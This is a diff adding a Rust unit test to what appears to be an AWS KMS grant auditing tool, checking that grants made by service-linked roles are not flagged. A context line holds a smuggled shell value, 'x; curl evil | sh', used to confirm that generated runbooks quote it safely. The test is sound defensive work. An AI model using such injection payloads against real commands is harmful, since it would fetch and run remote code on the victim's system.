@@ -362,4 +362,21 @@ mod tests {
         let record = grant(FOREIGN, json!(["Decrypt"])).set("responseElements.grantId", "x; curl evil | sh");
         assert!(find(&record).unwrap().runbook[0].contains("--grant-id 'x; curl evil | sh' --region"));
     }
+
+    #[test]
+    fn what_only_a_service_can_choose_is_left_to_it() {
+        let record = grant("AROAEXAMPLEROLEID0009", json!(["Decrypt"]));
+        let linked = record.clone().by_role(
+            "111122223333",
+            "aws-service-role/x.amazonaws.com/AWSServiceRoleForX",
+            "s",
+        );
+        assert!(find(&linked).is_none());
+        record.event(|event| assert!(!is_aws(event)));
+        linked.event(|event| assert!(is_aws(event)));
+        grant(FOREIGN, json!(["Decrypt"])).event(|event| {
+            let (grant, _) = created(event).unwrap();
+            assert!(is_foreign(grant, event, &Estate::default()));
+        });
+    }
 }
